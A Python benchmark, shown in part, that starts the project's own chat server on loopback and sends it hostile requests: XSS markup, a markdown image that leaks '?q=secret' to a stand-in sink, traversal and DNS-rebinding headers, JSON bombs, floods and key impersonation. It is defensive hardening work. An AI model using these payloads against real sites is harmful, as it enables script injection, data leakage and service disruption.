"""Hostile-input campaign: a corpus of bad requests against a live app, with the figures that say it held.

    python -m benchmarks.hostile --json                 # full corpus, victim TTFT quiet vs under attack, Chromium
    python -m benchmarks.hostile --quick --json         # one round of the whole corpus
    python -m benchmarks.hostile --quick --suite-slice  # the slice the suite runs (every guard, a third of the rest)
    python -m benchmarks.hostile --no-browser           # HTTP only
    python -m benchmarks.hostile --servers --no-browser # the model in a model server apart (FLYWHEEL_SERVING=servers)

It starts ``python -m app.server`` (the real model, keys required, an admin token) on a free loopback port with a
throwaway FLYWHEEL_HOME; Kafka points at a closed port, so events wait in the app's spool (nothing here is about
Kafka). Three API keys: two attackers (``A``, ``B``) and a ``victim``. Then, in one run:

1. quiet: the victim streams short answers one after another; its time to first token (TTFT) is the baseline;
2. attack: while the victim does the same again, attacker threads send the corpus: out-of-range sampling values
   (including JSON ``NaN``/``Infinity`` and huge integers), hostile unicode (lone surrogates, invalid UTF-8,
   bidi overrides, combining floods, emoji that explode into tokens), deep nesting, bodies over the limit with and
   without Content-Length, floods of valid and invalid requests, clients that vanish before or during a stream,
   impersonation (key B rating and consenting for key A's user, no key, bad keys, a revoked key, operator routes
   with an API key, DNS-rebinding Host headers), and markup / script in every field a client controls;
3. afterwards: the operator's ``/healthz`` must show every generation slot free (``leaked_slots``), the server
   must still be alive, key A's user must not have gained a consent or a rating from key B;
4. browser: real Chromium (Debian's ``/usr/bin/chromium``) opens the chat page; a stored conversation whose user
   message, title and answer carry script and external-resource payloads is opened, and a hostile message is
   typed and answered live. Every request to another origin is intercepted (aborted, never sent) and counted
   (``external_requests``); payloads that run count themselves, and dialogs are counted (``script_executions``).

Targets: 0 ``crashes_5xx``, 0 ``leaked_slots``, 0 ``script_executions``, 0 ``external_requests``, 0
``impersonations``, victim TTFT p99 under attack at most 2x quiet. The machine is shared: compare within a run.
"""

from __future__ import annotations

import argparse
import itertools
import json
import os
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

import httpx

from infra import procs
from infra.ports import free_port

REPO = Path(__file__).resolve().parents[1]
CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"]
ADMIN_TOKEN = "hostile-bench-operator"
HI = [{"role": "user", "content": "Say hi."}]
PROBE_KEYS = 16
_ROTATION = itertools.count()
SINK = "http://127.0.0.9:9"  # payload URLs: another origin on loopback; the browser's requests to it are aborted
PWN = "window.__pwned=(window.__pwned||0)+1"
MARKUP = [
    "<script>" + PWN + "</script>",
    f"<img src=x onerror='{PWN}'>",
    f"<svg onload='{PWN}'></svg>",
    f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>',
    f"<img src='{SINK}/img.png'>",
    f"![leak]({SINK}/md.png?q=secret)",
    f"<a href='javascript:{PWN}'>click</a> [x](javascript:alert(1))",
    f"<style>@import url('{SINK}/css');</style><div style=\"background:url('{SINK}/bg')\">x</div>",
    f"<link rel=stylesheet href='{SINK}/link.css'><object data='{SINK}/obj'></object>",
    f"<math><mtext><table><mglyph><style><img src=x onerror='{PWN}'>",
    "<<script>script>alert(1)<</script>/script>",
    f"```html\n<img src='{SINK}/code.png' onerror='{PWN}'>\n```",
]


def progress(msg: str) -> None:
    print(f"[hostile] {msg}", file=sys.stderr, flush=True)


def pct(values: list[float], q: float) -> float | None:
    """Nearest-rank percentile (p99 of a few dozen samples is their maximum, as it should be)."""
    if not values:
        return None
    v = sorted(values)
    return round(v[min(len(v) - 1, max(0, int(q / 100 * len(v) + 0.999999) - 1))], 1)


# ---- the app under test ------------------------------------------------------------------------------------


@dataclass
class LiveServer:
    home: Path
    url: str
    proc: subprocess.Popen
    keys: dict[str, str]  # role -> plaintext key
    key_ids: dict[str, str]
    log_path: Path
    manager: subprocess.Popen | None = None  # with --servers: app.model_servers, which runs the model server

    @property
    def api(self) -> str:
        return f"{self.url}/v1"

    def alive(self) -> bool:
        return self.proc.poll() is None

    def stop(self) -> None:
        for proc in (self.proc, self.manager):
            procs.end(proc, 30)


def start_server(home: Path, *, answer_tokens: int, servers: bool = False) -> LiveServer:
    from app.keys import KeyStore
    from feedback.settings import Settings

    store = KeyStore(Settings(home=home))
    keys, key_ids = {}, {}
    for role in ("a", "b", "victim", "revoked", *(f"p{i}" for i in range(PROBE_KEYS))):
        key, plaintext = store.create(f"hostile-{role}")
        keys[role], key_ids[role] = plaintext, key.key_id
    store.revoke(key_ids["revoked"])
    store.close()
    port = free_port()
    env = {
        **os.environ,
        "FLYWHEEL_HOME": str(home),
        "FLYWHEEL_APP_HOST": "127.0.0.1",
        "FLYWHEEL_APP_PORT": str(port),
        "FLYWHEEL_KAFKA_BOOTSTRAP": f"127.0.0.1:{free_port()}",  # closed: events wait in the spool
        "FLYWHEEL_ADMIN_TOKEN": ADMIN_TOKEN,
        "FLYWHEEL_API_AUTH": "keys",
        "FLYWHEEL_APP_MAX_NEW_TOKENS": str(answer_tokens),
        "FLYWHEEL_BASE_MODEL": os.environ.get("FLYWHEEL_BASE_MODEL", str(REPO / ".flywheel" / "models" / "base")),
        "PYTHONPATH": str(REPO),
    }
    manager = None
    if servers:  # the model server first (one for the base version), then the app that streams from it
        from app.model_servers import published_servers

        env["FLYWHEEL_SERVING"] = "servers"
        with (home / "model-servers.log").open("w") as out:
            manager = subprocess.Popen(
                [sys.executable, "-m", "app.model_servers"], cwd=REPO, env=env, stdout=out, stderr=subprocess.STDOUT
            )
        deadline = time.monotonic() + 240
        while not published_servers(Settings(home=home)):
            if manager.poll() is not None or time.monotonic() > deadline:
                manager.kill()
                raise RuntimeError(f"no model server in 240 s: {(home / 'model-servers.log').read_text()[-3000:]}")
            time.sleep(0.5)
    log_path = home / "server.log"
    proc = subprocess.Popen(
        [sys.executable, "-m", "app.server"], cwd=REPO, env=env, stdout=log_path.open("w"), stderr=subprocess.STDOUT
    )
    server = LiveServer(home, f"http://127.0.0.1:{port}", proc, keys, key_ids, log_path, manager)
    deadline = time.monotonic() + 240
    while True:
        if not server.alive():
            raise RuntimeError(f"app.server exited: {log_path.read_text()[-3000:]}")
        try:
            if httpx.get(f"{server.url}/healthz", timeout=2).status_code == 200:
                return server
        except httpx.HTTPError:
            pass
        if time.monotonic() > deadline:
            server.stop()
            raise RuntimeError("app.server did not answer /healthz in 240 s")
        time.sleep(0.5)


def operator_health(server: LiveServer) -> dict:
    return httpx.get(f"{server.url}/healthz", headers={"Authorization": f"Bearer {ADMIN_TOKEN}"}, timeout=30).json()


def slots_held(server: LiveServer) -> int:
    h = operator_health(server)
    backend = sum(v.get("slots_in_use") or 0 for v in h["model_versions"].values())
    if server.manager is not None:  # the model servers' own streams in flight (their load is in-flight / 8)
        from app.model_servers import published_servers
        from feedback.settings import Settings

        for urls in published_servers(Settings(home=server.home)).values():
            for url in urls:
                backend += round(8 * httpx.get(f"{url}/healthz", timeout=10).json()["load"])
    return max(backend, h["open_turns"]) + h["api_streams_open"]


# ---- the victim ----------------------------------------------------------------------------------------------


def _has_text(line: str) -> bool:
    if not line.startswith("data: {"):
        return False
    choices = json.loads(line[6:]).get("choices") or [{}]
    return bool((choices[0].get("delta") or {}).get("content"))


def victim_ttft(server: LiveServer, n: int) -> list[float]:
    """TTFT (ms) of ``n`` short streamed answers, one after another, as a well-behaved client of its own key."""
    out: list[float] = []
    headers = {"Authorization": f"Bearer {server.keys['victim']}"}
    body = {"model": "flywheel", "messages": HI, "max_tokens": 8, "stream": True, "temperature": 0}
    with httpx.Client(timeout=300) as c:
        for i in range(n):
            t0 = time.perf_counter()
            with c.stream(
                "POST", f"{server.api}/chat/completions", json={**body, "user": f"v{i}"}, headers=headers
            ) as r:
                if r.status_code != 200:
                    raise RuntimeError(f"the victim was refused: {r.status_code} {r.read()[:300]!r}")
                first = None
                for line in r.iter_lines():  # read to the end: the answer finishes before the next one starts
                    if first is None and _has_text(line):
                        first = (time.perf_counter() - t0) * 1000
                if first is not None:
                    out.append(first)
            time.sleep(0.2)
    return out


# ---- the corpus ----------------------------------------------------------------------------------------------


@dataclass
class Probe:
    category: str
    name: str
    send: Callable[[httpx.Client, LiveServer], int | None]  # returns the HTTP status, None when no answer is due
    repeat: int = 1


@dataclass
class Tally:
    requests: int = 0
    statuses: Counter = field(default_factory=Counter)
    by_category: dict[str, Counter] = field(default_factory=dict)
    crashes: list[str] = field(default_factory=list)
    impersonations: list[str] = field(default_factory=list)
    mu: threading.Lock = field(default_factory=threading.Lock)

    def add(self, probe: Probe, status: int | str) -> None:
        with self.mu:
            self.requests += 1
            self.statuses[str(status)] += 1
            self.by_category.setdefault(probe.category, Counter())[str(status)] += 1
            if isinstance(status, int) and status >= 500:
                self.crashes.append(f"{probe.category}/{probe.name}: {status}")


def _pool_key(s: LiveServer, role: str | None) -> str | None:
    """``p``: the next of the prober keys (so the corpus exercises validation, not only the per-key rate limit)."""
    if role == "p":
        return s.keys[f"p{next(_ROTATION) % PROBE_KEYS}"]
    return s.keys[role] if role is not None else None


def _post(
    path: str,
    *,
    key: str | None = "p",
    json_body=None,
    content: bytes | Iterator[bytes] | None = None,
    headers: dict | None = None,
) -> Callable[[httpx.Client, LiveServer], int]:
    def send(c: httpx.Client, s: LiveServer) -> int:
        h = {"content-type": "application/json", **(headers or {})}
        if key is not None:
            h["Authorization"] = f"Bearer {_pool_key(s, key)}"
        body = content() if callable(content) else content
        return c.post(f"{s.url}{path}", json=json_body, content=body, headers=h).status_code

    return send


def _chat(key: str = "p", **fields) -> Callable[[httpx.Client, LiveServer], int]:
    return _post("/v1/chat/completions", key=key, json_body={"messages": HI, "max_tokens": 4, **fields})


def _raw_chat(raw: bytes, key: str = "p") -> Callable[[httpx.Client, LiveServer], int]:
    return _post("/v1/chat/completions", key=key, content=raw)


def sampling_probes() -> list[Probe]:
    bad = [("temperature", v) for v in (-1, 2.5, 99, 1e308, 1e-300, "hot", None, [1])]
    bad += [("top_p", v) for v in (0, -0.5, 1.5, 1e-300, "all")]
    bad += [("max_tokens", v) for v in (0, -1, 10**9, 2**63, 2**70, 1.5, "many")]
    bad += [("max_completion_tokens", v) for v in (0, 10**12)]
    bad += [("seed", v) for v in (-1, 2**63, 2**64, 2**70, -(2**70), 1e30, "s")]
    bad += [("n", v) for v in (0, 2, 10**6)]
    bad += [("stream", v) for v in ("yes", 2, {"a": 1})]
    probes = [Probe("sampling", f"{k}={v!r}"[:40], _chat(**{k: v})) for k, v in bad]
    for literal in (b"NaN", b"Infinity", b"-Infinity", b"1e999", b"-1e999"):
        for k in (b"temperature", b"top_p", b"seed", b"max_tokens"):
            raw = b'{"messages": [{"role": "user", "content": "hi"}], "%s": %s}' % (k, literal)
            probes.append(Probe("sampling", f"{k.decode()}={literal.decode()}", _raw_chat(raw)))
    return probes


def unicode_probes() -> list[Probe]:
    texts = {
        "lone-surrogate": "\\ud800 and \\udfff",
        "surrogate-pair-broken": "\\ud83d",
        "nul": "a\\u0000b",
        "controls": "\\u0007\\u001b[31mred",
        "bidi-override": "\u202eevil\u202c txt.exe",
        "zero-width": "\u200b\u200c\u200d\ufeff" * 500,
        "combining-flood": "a" + "\u0301" * 3000,
        "emoji-tokens": "\U0001f600" * 1500,
        "line-separators": "\u2028\u2029" * 200,
        "nfc-expansion": "\ufb2c" * 1000,  # one character, three after normalisation
        "private-use": "\ue000\U000f0000" * 200,
        "noncharacters": "\ufffe\uffff",
    }
    probes = []
    for name, text in texts.items():
        raw = b'{"messages": [{"role": "user", "content": "%s"}], "max_tokens": 2}' % text.encode(
            "utf-8", "surrogatepass"
        )
        probes.append(Probe("unicode", f"content:{name}", _raw_chat(raw)))
        user = text[:40].replace('"', "")
        raw = b'{"messages": [{"role": "user", "content": "hi"}], "max_tokens": 2, "user": "%s"}' % user.encode(
            "utf-8", "surrogatepass"
        )
        probes.append(Probe("unicode", f"user:{name}", _raw_chat(raw)))
    probes.append(
        Probe("unicode", "invalid-utf8", _raw_chat(b'{"messages": [{"role": "user", "content": "\xff\xfe\xc0\xaf"}]}'))
    )
    probes.append(
        Probe("unicode", "overlong-utf8", _raw_chat(b'{"messages": [{"role": "user", "content": "\xc0\xbc"}]}'))
    )
    probes.append(
        Probe(
            "unicode",
            "latin1-header-user",
            _post(
                "/v1/chat/completions",
                json_body={"messages": HI, "max_tokens": 2},
                headers={"X-Flywheel-User": "caf\xe9\x85".encode("latin-1")},
            ),
        )
    )
    probes.append(
        Probe(
            "unicode",
            "header-conversation",
            _post(
                "/v1/chat/completions",
                json_body={"messages": HI, "max_tokens": 2},
                headers={"X-Flywheel-Conversation": ("../" * 200).encode(), "X-Flywheel-Consent": b"\xff\xfe"},
            ),
        )
    )
    return probes


def nesting_probes() -> list[Probe]:
    deep = 100_000
    shapes = {
        "array-bomb": b"[" * deep + b"]" * deep,
        "object-bomb": b'{"a":' * deep + b"1" + b"}" * deep,
        "messages-deep": b'{"messages": ' + b"[" * deep + b"]" * deep + b"}",
        "content-deep": b'{"messages": [{"role": "user", "content": ' + b"[" * 50_000 + b"]" * 50_000 + b"}]}",
        "null": b"null",
        "array": b"[]",
        "string": b'"hi"',
        "number": b"1e999999",
        "empty": b"",
        "duplicate-keys": b'{"messages": [], "messages": [{"role": "user", "content": "hi"}], "max_tokens": 2}',
    }
    probes = [Probe("nesting", name, _raw_chat(raw)) for name, raw in shapes.items()]
    objs = {
        "content-dict": [{"role": "user", "content": {"text": "hi"}}],
        "content-blocks-image": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": SINK}}]}],
        "content-blocks-many": [{"role": "user", "content": [{"type": "text", "text": "a"}] * 60_000}],
        "content-block-nested": [{"role": "user", "content": [{"type": "text", "text": [[["x"]]]}]}],
        "role-list": [{"role": ["user"], "content": "hi"}],
        "role-long": [{"role": "u" * 100_000, "content": "hi"}],
        "role-tool": [{"role": "tool", "content": "hi", "tool_call_id": "x"}],
        "many-messages": [{"role": "user", "content": "hi"}] * 20_000,
        "message-not-object": ["hi", 1, None],
        "tools-and-extras": HI,
    }
    for name, messages in objs.items():
        extra = (
            {"tools": [{"type": "function", "function": {"name": "x" * 1000}}], "logit_bias": {"1": 100}}
            if name == "tools-and-extras"
            else {}
        )
        probes.append(
            Probe(
                "nesting",
                name,
                _post("/v1/chat/completions", json_body={"messages": messages, "max_tokens": 2, **extra}),
            )
        )
    return probes


def size_probes() -> list[Probe]:
    big = b'{"messages": [{"role": "user", "content": "' + b"x" * 2_000_000 + b'"}]}'

    def chunked(total: int, piece: int = 64 * 1024) -> Callable[[], Iterator[bytes]]:
        def gen() -> Iterator[bytes]:
            yield b'{"messages": [{"role": "user", "content": "'
            sent = 0
            while sent < total:
                yield b"y" * piece
                sent += piece
            yield b'"}]}'

        return gen

    return [
        Probe("sizes", "2MB-with-length", _raw_chat(big)),
        Probe("sizes", "2MB-chunked-no-length", _post("/v1/chat/completions", content=chunked(2_000_000))),
        Probe("sizes", "20MB-chunked-no-length", _post("/v1/chat/completions", content=chunked(20_000_000))),
        Probe(
            "sizes",
            "just-under-limit",
            _raw_chat(b'{"messages": [{"role": "user", "content": "' + b"z" * 990_000 + b'"}]}'),
        ),
        Probe("sizes", "message-over-context", _chat(messages=[{"role": "user", "content": "word " * 900}])),
        Probe("sizes", "feedback-2MB", _post("/v1/feedback", content=b'{"turn_id": "' + b"t" * 2_000_000 + b'"}')),
        Probe(
            "sizes",
            "reason-huge",
            _post("/v1/feedback", json_body={"turn_id": "x", "rating": "down", "reason": "r" * 900_000}),
        ),
        Probe("sizes", "turn-id-huge", _post("/v1/feedback", json_body={"turn_id": "t" * 900_000, "rating": "up"})),
        Probe("sizes", "ui-queue-2MB", _post("/gradio_api/queue/join", key=None, content=big)),
    ]


def markup_probes() -> list[Probe]:
    probes = []
    for i, payload in enumerate(MARKUP):
        probes.append(
            Probe(
                "markup",
                f"message-{i}",
                _chat(messages=[{"role": "user", "content": payload}], max_tokens=2, user=f"m{i}"),
            )
        )
        probes.append(
            Probe(
                "markup",
                f"system-{i}",
                _chat(
                    messages=[{"role": "system", "content": payload}, {"role": "user", "content": "hi"}], max_tokens=2
                ),
            )
        )
    for user in ("<script>x</script>", "<img/src=x/onerror=alert(1)>", "javascript:alert(1)", "${{7*7}}"):
        probes.append(Probe("markup", f"user:{user[:12]}", _chat(user=user, max_tokens=2)))
    probes.append(Probe("markup", "model-field", _chat(model="<script>alert(1)</script>", max_tokens=2)))
    probes.append(
        Probe(
            "markup",
            "reason",
            _post("/v1/feedback", json_body={"turn_id": "nope", "rating": "down", "reason": MARKUP[1]}),
        )
    )
    return probes


def access_probes() -> list[Probe]:
    def get(path: str, headers: dict) -> Callable[[httpx.Client, LiveServer], int]:
        return lambda c, s: c.get(f"{s.url}{path}", headers=headers).status_code

    probes = [
        Probe("access", "no-key", _chat(key=None)),
        Probe(
            "access",
            "garbage-key",
            _post(
                "/v1/chat/completions",
                key=None,
                json_body={"messages": HI},
                headers={"Authorization": "Bearer fw_000000000000_" + "x" * 43},
            ),
        ),
        Probe("access", "revoked-key", _chat(key="revoked")),
        Probe(
            "access",
            "admin-token-as-key",
            _post(
                "/v1/chat/completions",
                key=None,
                json_body={"messages": HI},
                headers={"Authorization": f"Bearer {ADMIN_TOKEN}"},
            ),
        ),
        Probe("access", "host-rebinding", get("/", {"Host": "attacker.example"})),
        Probe("access", "host-rebinding-api", get("/v1/models", {"Host": "127.0.0.1.attacker.example"})),
        Probe("access", "models-no-key", get("/v1/models", {})),
    ]
    for path in ("/metrics", "/healthz"):
        probes.append(Probe("access", f"{path}-with-api-key", lambda c, s, p=path: _operator_leak(c, s, p)))
    return probes


def _operator_leak(c: httpx.Client, s: LiveServer, path: str) -> int:
    r = c.get(f"{s.url}{path}", headers={"Authorization": f"Bearer {s.keys['a']}"})
    if r.status_code == 200 and (path == "/metrics" or set(r.json()) != {"status"}):
        return 600  # operator detail shown to an API key: counted as a failure
    return r.status_code


def flood_probes(n: int) -> list[Probe]:
    return [
        Probe("flood", "valid-chat", _chat(key="a", max_tokens=16), repeat=n),
        Probe("flood", "invalid-chat", _chat(key="a", temperature=50), repeat=n),
        Probe(
            "flood",
            "models",
            lambda c, s: c.get(f"{s.api}/models", headers={"Authorization": f"Bearer {s.keys['b']}"}).status_code,
            repeat=n,
        ),
        Probe("flood", "unauthenticated", _chat(key=None), repeat=n),
    ]


def abandon_probes(n: int) -> list[Probe]:
    def vanish(read: int) -> Callable[[httpx.Client, LiveServer], None]:
        def send(c: httpx.Client, s: LiveServer) -> None:
            body = json.dumps({"messages": HI, "max_tokens": 64, "stream": True}).encode()
            host, port = s.url.removeprefix("http://").split(":")
            with socket.create_connection((host, int(port)), timeout=60) as sock:
                sock.sendall(
                    b"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: "
                    b"application/json\r\nAuthorization: Bearer %s\r\nContent-Length: %d\r\n\r\n%s"
                    % (_pool_key(s, "p").encode(), len(body), body)
                )
                got = b""
                while len(got) < read:
                    chunk = sock.recv(4096)
                    if not chunk:
                        break
                    got += chunk
            return None

        return send

    def half_body(c: httpx.Client, s: LiveServer) -> None:
        host, port = s.url.removeprefix("http://").split(":")
        with socket.create_connection((host, int(port)), timeout=30) as sock:
            sock.sendall(
                b"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json"
                b'\r\nAuthorization: Bearer %s\r\nContent-Length: 5000\r\n\r\n{"messages"' % _pool_key(s, "p").encode()
            )
        return None

    return [
        Probe("abandon", "before-first-byte", vanish(0), repeat=n),
        Probe("abandon", "mid-stream", vanish(400), repeat=n),
        Probe("abandon", "half-a-body", half_body, repeat=n),
    ]


IMPERSONATION_REQUESTS = 10  # what impersonation_round adds to the tally: 8 ratings and 2 consents


def impersonation_round(server: LiveServer, tally: Tally) -> None:
    """Key A's user alice gets two answers; key B (and others) try to rate them and set alice's consent."""
    a = {"Authorization": f"Bearer {server.keys['a']}"}
    b = {"Authorization": f"Bearer {server.keys['b']}"}
    turns = []
    with httpx.Client(timeout=300) as c:
        for _ in range(2):
            r = c.post(
                f"{server.api}/chat/completions", headers=a, json={"messages": HI, "max_tokens": 2, "user": "alice"}
            )
            if r.status_code == 200:
                turns.append(r.json()["id"])
        if len(turns) < 2:
            raise RuntimeError("key A could not get the answers the impersonation round needs")
        attempts = [
            (b, {"turn_id": turns[0], "rating": "up", "user": "alice"}),
            (b, {"turn_id": turns[0], "rating": "down", "reason": "x"}),
            (b, {"turn_id": turns[0], "other_turn_id": turns[1], "rating": "a", "user": "alice"}),
            ({**b, "X-Flywheel-User": "alice"}, {"turn_id": turns[1], "rating": "up"}),
            (
                b,
                {"turn_id": turns[0].removeprefix("chatcmpl-"), "rating": "up", "user": f"{server.key_ids['a']}:alice"},
            ),
            (b, {"turn_id": turns[0], "rating": "up", "user": f"key:{server.key_ids['a']}:alice"}),
            (a, {"turn_id": turns[0], "rating": "up", "user": "mallory"}),
            ({}, {"turn_id": turns[0], "rating": "up", "user": "alice"}),
        ]
        probe = Probe("impersonation", "rate-another-keys-user", lambda c, s: None)
        for headers, body in attempts:
            r = c.post(f"{server.api}/feedback", headers=headers, json=body)
            tally.add(probe, r.status_code)
            if r.status_code == 200:
                tally.impersonations.append(f"rated {body['turn_id']} with {sorted(headers)} {body}")
        consent = Probe("impersonation", "consent-for-another-keys-user", lambda c, s: None)
        for user in ("alice", f"{server.key_ids['a']}:alice"):
            r = c.post(
                f"{server.api}/chat/completions",
                headers={**b, "X-Flywheel-Consent": "1"},
                json={"messages": HI, "max_tokens": 2, "user": user},
            )
            tally.add(consent, r.status_code)


def impersonation_verdict(server: LiveServer, tally: Tally) -> None:
    """After the run: key A's alice must have no consent (only key B's users asked for it)."""
    from app.sessions import Sessions
    from feedback.settings import Settings

    sessions = Sessions(Settings(home=server.home))
    try:
        if sessions.consent(f"key:{server.key_ids['a']}:alice"):
            tally.impersonations.append("key B set consent for key A's alice")
    finally:
        sessions.close()


def run_corpus(
    server: LiveServer, probes: list[Probe], tally: Tally, workers: int, until: threading.Event | None, rounds: int
) -> None:
    """Send every probe (repeats included) from ``workers`` threads, ``rounds`` times or until ``until`` is set."""
    work = [p for p in probes for _ in range(p.repeat)]

    def one(p: Probe) -> None:
        with httpx.Client(timeout=120) as c:
            try:
                status = p.send(c, server)
            except (httpx.RemoteProtocolError, httpx.ReadError, httpx.WriteError, ConnectionError) as e:
                status = f"dropped:{type(e).__name__}"  # the server closed on a body it refused: not a 5xx
            except httpx.TimeoutException:
                status = "timeout"
            if status is not None:
                tally.add(p, status)
            else:
                tally.add(p, "sent")

    with ThreadPoolExecutor(workers) as pool:
        for r in range(rounds):
            list(pool.map(one, work))
            if until is not None and until.is_set() and r >= 0:
                break


def wait_slots_free(server: LiveServer, timeout: float) -> int:
    deadline = time.monotonic() + timeout
    held = slots_held(server)
    while held and time.monotonic() < deadline:
        time.sleep(0.5)
        held = slots_held(server)
    return held


# ---- the browser ---------------------------------------------------------------------------------------------


def browser_check(server: LiveServer, answer_s: float) -> dict:
    """Script executions and requests to other origins while hostile content is shown in real Chromium."""
    from playwright.sync_api import TimeoutError as PlaywrightTimeout
    from playwright.sync_api import sync_playwright

    from app.sessions import COOKIE_NAME, Sessions
    from feedback.settings import Settings

    external: list[str] = []
    dialogs: list[str] = []
    hostile = "\n\n".join(MARKUP)
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            ctx = browser.new_context(viewport={"width": 1280, "height": 900})
            origin = server.url

            def route(r):
                if r.request.url.startswith(origin) or r.request.url.startswith(("data:", "blob:", "about:")):
                    r.continue_()
                else:
                    external.append(r.request.url)
                    r.abort()

            ctx.route("**/*", route)
            page = ctx.new_page()
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.on("console", lambda m: "PWNED" in m.text and dialogs.append(m.text))
            page.goto(origin + "/")
            page.wait_for_selector("#msg textarea", timeout=120_000)
            token = next(c["value"] for c in ctx.cookies() if c["name"] == COOKIE_NAME)
            sessions = Sessions(Settings(home=server.home))
            try:
                uid = sessions.unsign(token)
                sessions.save_conversation(
                    uid,
                    "c-hostile",
                    [
                        {"role": "user", "content": hostile},
                        {
                            "role": "assistant",
                            "content": hostile,
                            "turn_id": "t-hostile",
                            "model_version": "base",
                            "done": True,
                            "finish": "stop",
                            "rating": None,
                        },
                    ],
                )
            finally:
                sessions.close()
            page.reload()
            page.wait_for_selector("#msg textarea", timeout=120_000)
            if page.viewport_size["width"] >= 900:
                page.wait_for_timeout(500)
            page.get_by_role("radio", name="<script>", exact=False).first.check(timeout=30_000)
            page.wait_for_function(
                "document.querySelectorAll('#chatbot [data-testid=bot]').length >= 1", timeout=60_000
            )
            page.wait_for_timeout(1500)
            shown = page.inner_text("#chatbot")
            finished = page.evaluate("document.querySelectorAll('#chatbot .fw-version').length")
            page.fill("#msg textarea", MARKUP[1] + " " + MARKUP[4] + " Repeat this exactly.")
            page.keyboard.press("Enter")
            page.wait_for_function(
                "document.querySelectorAll('#chatbot [data-testid=bot]').length >= 1 && "
                "document.querySelectorAll('#chatbot [data-testid=user]').length >= 2",
                timeout=int(answer_s * 1000),
            )
            try:  # the live answer streams in: until it is finished (its version footer), at most 20 s as before
                page.wait_for_function(
                    f"document.querySelectorAll('#chatbot .fw-version').length > {finished}",
                    timeout=int(min(answer_s, 20) * 1000),
                )
            except PlaywrightTimeout:
                pass  # still streaming after 20 s: what was shown so far is checked
            page.wait_for_timeout(1500)  # payloads in the finished answer get their moment to run
            pwned = page.evaluate("window.__pwned || 0")
        finally:
            browser.close()
    return {
        "script_executions": int(pwned) + len(dialogs),
        "external_requests": len(external),
        "external_urls": sorted(set(external))[:20],
        "dialogs": dialogs[:10],
        "payloads_shown_as_text": sum(1 for m in ("<script>", "onerror", "<svg", "javascript:") if m in shown),
    }


# ---- the suite's slice ---------------------------------------------------------------------------------------

# Cases the suite's slice always keeps: each guards a bug that was fixed (the commit that fixed it).
GUARDS: tuple[tuple[str, str, str], ...] = (
    ("sampling", "seed=", "64ef88b, 1b3b607: a seed torch rejects leaked its generation slot (later requests 429)"),
    ("sizes", "-chunked-no-length", "1319e40: a body over the limit without Content-Length is refused while streamed"),
    ("abandon", "", "1319e40: a client that vanishes before or during a stream gives its slot back"),
    ("unicode", "user:", "1319e40: a malformed `user` is a 400 at the boundary, not an error inside"),
    ("access", "", "1319e40: no key, bad, revoked or operator keys, DNS-rebinding Host headers"),
    ("markup", "message-5", "926665c: Markdown ![x](url) became an image (the browser check shows every payload)"),
)
SLICE_EVERY = 3  # of the cases no guard names, the suite keeps every third in each category


def is_guard(p: Probe) -> bool:
    return any(p.category == cat and part in p.name for cat, part, _ in GUARDS)


def suite_slice(probes: list[Probe]) -> list[Probe]:
    """The representative slice the suite runs: every category, every guard, every third other case in each
    category. The benchmark (``python -m benchmarks.hostile``) runs the whole corpus."""
    seen: Counter = Counter()
    out = []
    for p in probes:
        if is_guard(p):
            out.append(p)
            continue
        if seen[p.category] % SLICE_EVERY == 0:
            out.append(p)
        seen[p.category] += 1
    return out


# ---- the run -------------------------------------------------------------------------------------------------


def corpus(flood: int, abandon: int) -> list[Probe]:
    return (
        sampling_probes()
        + unicode_probes()
        + nesting_probes()
        + size_probes()
        + markup_probes()
        + access_probes()
        + flood_probes(flood)
        + abandon_probes(abandon)
    )


def run(
    quick: bool = False,
    browser: bool = True,
    victim_n: int | None = None,
    flood: int | None = None,
    workers: int = 6,
    suite: bool = False,
    servers: bool = False,
) -> dict:
    """One campaign; ``quick``: one round of the corpus; ``suite``: only ``suite_slice`` of it (the test suite)."""
    victim_n = victim_n or (6 if quick else 20)
    flood = flood if flood is not None else (15 if quick else 60)
    load_start = os.getloadavg()
    phase_s: dict[str, float] = {}
    t_phase = time.perf_counter()

    def phase(name: str) -> None:
        nonlocal t_phase
        now = time.perf_counter()
        phase_s[name] = round(now - t_phase, 1)
        t_phase = now

    with tempfile.TemporaryDirectory(prefix="flywheel-hostile-") as tmp:
        home = Path(tmp) / "home"
        home.mkdir()
        progress("starting the app (real model, keys required) ...")
        server = start_server(home, answer_tokens=16, servers=servers)
        phase("start")
        try:
            progress(f"quiet baseline: {victim_n} victim answers ...")
            victim_ttft(server, 2)  # warm-up
            quiet = victim_ttft(server, victim_n)
            phase("quiet")
            tally = Tally()
            probes = corpus(flood, 3 if quick else 8)
            if suite:
                probes = suite_slice(probes)
            progress(
                f"attack: {sum(p.repeat for p in probes)} requests per round, {workers} threads, "
                "while the victim measures again ..."
            )
            done = threading.Event()
            attacked: list[float] = []
            failures: list[BaseException] = []

            def measure() -> None:
                try:
                    attacked.extend(victim_ttft(server, victim_n))
                except BaseException as e:  # noqa: BLE001 - reported after the attack
                    failures.append(e)
                finally:
                    done.set()

            victim = threading.Thread(target=measure, name="victim")
            t_attack = time.perf_counter()
            victim.start()
            impersonation_round(server, tally)
            run_corpus(server, probes, tally, workers, done, rounds=1 if quick else 50)
            victim.join()
            if failures:
                raise RuntimeError(f"the victim failed under attack: {failures[0]}") from failures[0]
            attack_s = time.perf_counter() - t_attack
            phase("attack")
            progress("waiting for every slot to be given back ...")
            leaked = wait_slots_free(server, 30)
            impersonation_verdict(server, tally)
            alive = server.alive()
            phase("settle")
            result_browser = {"script_executions": None, "external_requests": None, "skipped": True}
            if browser:
                progress("browser: hostile content in real Chromium ...")
                result_browser = browser_check(server, answer_s=120)
                phase("browser")
            health = operator_health(server)
        finally:
            server.stop()
    quiet_p99, attack_p99 = pct(quiet, 99), pct(attacked, 99)
